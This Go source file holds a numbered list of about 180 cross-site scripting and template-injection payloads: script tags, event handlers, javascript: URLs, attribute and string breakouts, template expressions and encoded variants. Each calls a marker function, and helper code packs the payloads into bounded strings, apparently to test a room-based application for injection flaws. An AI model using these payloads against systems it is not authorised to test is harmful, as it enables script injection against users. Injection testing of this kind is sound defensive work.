package main

import (
	"strconv"
	"strings"
)

// payloads are texts that run f in a page that takes one of them for markup, an
// attribute, an address, a script, a template or a rule of style. § is the
// payload's number. Short ones are names that a room takes.
var payloads = numbered(`<script>f(§)</script>
<SCRIPT>f(§)</SCRIPT>
<script >f(§)</script >
<script/x>f(§)</script>
<script src=data:,f(§)></script>
<script src="data:text/javascript,f(§)"></script>
<scr<script>ipt>f(§)</scr</script>ipt>
<svg><script>f(§)</script>
<svg><script>f&lpar;§)</script>
<svg><script>f&#40;§&#41;</script>
<img src=x onerror=f(§)>
<img src=x onerror="f(§)">
<img src=x onerror='f(§)'>
<img src=x onerror=f&lpar;§)>
<img src=x onerror=\u0066(§)>
<IMG SRC=x ONERROR=f(§)>
<img/src=x/onerror=f(§)>
<img src onerror=f(§)>
<img srcset=x onerror=f(§)>
<img src=x:f(§) onerror=eval(src.slice(2))>
<img src=x onerror=top.f(§)>
<img src=x onerror=self['f'](§)>
<img src=x onerror=f(§)//
<img src=x onerror=f(§) x=
<<img src=x onerror=f(§)>
<image src=x onerror=f(§)>
<svg onload=f(§)>
<svg/onload=f(§)>
<svg onload="f(§)">
<svg onload=f(§)//
<svg><svg onload=f(§)>
<svg><style onload=f(§)>
<svg><g onload=f(§)>
<svg><animate onbegin=f(§) attributeName=x dur=1s>
<svg><set onbegin=f(§) attributeName=x to=1>
<math><svg onload=f(§)>
<body onload=f(§)>
<body onpageshow=f(§)>
<frameset onload=f(§)>
<iframe onload=f(§)>
<iframe src=javascript:f(§)>
<iframe src="javascript:top.f(§)">
<iframe srcdoc="<svg onload=f(§)>">
<iframe srcdoc="&lt;svg onload=f(§)&gt;">
<object data=javascript:f(§)>
<object onerror=f(§) data=x>
<embed src=javascript:f(§)>
<embed onload=f(§) src=x>
<video src onerror=f(§)>
<video src=x onerror=f(§)>
<video><source onerror=f(§)>
<video onloadstart=f(§) src=x>
<audio src onerror=f(§)>
<audio src=x onerror=f(§)>
<audio><source onerror=f(§)>
<input autofocus onfocus=f(§)>
<select autofocus onfocus=f(§)>
<textarea autofocus onfocus=f(§)>
<button autofocus onfocus=f(§)>
<a href=x autofocus onfocus=f(§)>
<x tabindex=1 autofocus onfocus=f(§)>
<input type=image src=x onerror=f(§)>
<details open ontoggle=f(§)>
<details open ontoggle="f(§)">
<dialog open onclose=f(§)>
<style onload=f(§)>
<style onload=f(§)></style>
<link rel=stylesheet href=data:, onload=f(§)>
<link rel=x href=x onerror=f(§)>
<marquee onstart=f(§)>
<marquee loop=1 onfinish=f(§)>
<x onclick=f(§)>x
<x onpointerover=f(§)>x
<x onmouseover=f(§)>x
<b onanimationstart=f(§) style=animation:a>
<x style="x:expression(f(§))">
<style>*{x:expression(f(§))}</style>
<style>@import'javascript:f(§)'</style>
<div style=background:url(javascript:f(§))>
<table background=javascript:f(§)>
<a href=javascript:f(§)>x</a>
<a href="java&Tab;script:f(§)">x</a>
<a href=JaVaScRiPt:f(§)>x
<a href="&#106;avascript:f(§)">x</a>
<a href=data:text/html,<svg/onload=f(§)>>x
<form action=javascript:f(§)><button>
<button formaction=javascript:f(§)>x
<form><input name=attributes onfocus=f(§) autofocus>
<base href=javascript:f(§)//>
<meta http-equiv=refresh content="0;javascript:f(§)">
<template><svg onload=f(§)></template>
<template shadowrootmode=open><svg onload=f(§)>
<noscript><p title="</noscript><svg onload=f(§)>">
<xmp><p title="</xmp><svg/onload=f(§)>">
<!--><svg onload=f(§)>-->
<!--><img src=x onerror=f(§)>
<![CDATA[><svg onload=f(§)>]]>
<?x <svg onload=f(§)>?>
"><script>f(§)</script>
'><script>f(§)</script>
"><svg onload=f(§)>
'><svg onload=f(§)>
"><img src=x onerror=f(§)>
'><img src=x onerror=f(§)>
"/><svg onload=f(§)>
--><svg onload=f(§)>
]]><svg onload=f(§)>
</p><svg onload=f(§)>
</td></tr></table><svg onload=f(§)>
</title><svg onload=f(§)>
</style><svg onload=f(§)>
</script><svg onload=f(§)>
</script><script>f(§)</script>
</textarea><svg onload=f(§)>
</select><svg onload=f(§)>
</noscript><svg onload=f(§)>
</template><svg onload=f(§)>
" onfocus=f(§) autofocus x="
' onfocus=f(§) autofocus x='
"autofocus onfocus=f(§)//
'autofocus onfocus=f(§)//
" onmouseover=f(§) x="
' onmouseover=f(§) x='
x onmouseover=f(§)
" style="animation:a" onanimationstart="f(§)
javascript:f(§)
JAVASCRIPT:f(§)
javascript://%0Af(§)
data:text/html,<svg onload=f(§)>
data:text/javascript,f(§)
vbscript:f(§)
';f(§);'
";f(§);"
';f(§)//
";f(§)//
\";f(§)//
\');f(§)//
'-f(§)-'
"-f(§)-"
*/f(§)/*
${f(§)}
` + "`${f(§)}`" + `
#{f(§)}
@{f(§)}
{{f(§)}}
{{{f(§)}}}
{{constructor.constructor('f(§)')()}}
{{$on.constructor('f(§)')()}}
{%f(§)%}
<%=f(§)%>
<?=f(§)?>
[[f(§)]]
[[${f(§)}]]
(f(§))
&lt;svg onload=f(§)&gt;
&lt;script&gt;f(§)&lt;/script&gt;
&#60;svg onload=f(§)&#62;
%3Csvg onload=f(§)%3E
%3Cscript%3Ef(§)%3C/script%3E
\x3csvg onload=f(§)\x3e
\u003csvg onload=f(§)\u003e
＜svg onload=f(§)＞
[x](javascript:f(§))
![x](x"onerror=f(§)x=")
<javascript:f(§)>
=HYPERLINK("javascript:f(§)")
__proto__.f(§)
constructor f(§)`)

// numbered puts its number into each line.
func numbered(lines string) (list []string) {
	for line := range strings.Lines(lines) {
		list = append(list, strings.ReplaceAll(strings.TrimSuffix(line, "\n"), "§", strconv.Itoa(1000+len(list))))
	}
	return list
}

// packed joins payloads to texts of at most so many characters.
func packed(list []string, most int) (packs []string) {
	pack := ""
	for _, p := range list {
		if pack != "" && len([]rune(pack+" "+p)) > most {
			packs, pack = append(packs, pack), ""
		}
		pack = strings.TrimSpace(pack + " " + p)
	}
	return append(packs, pack)
}
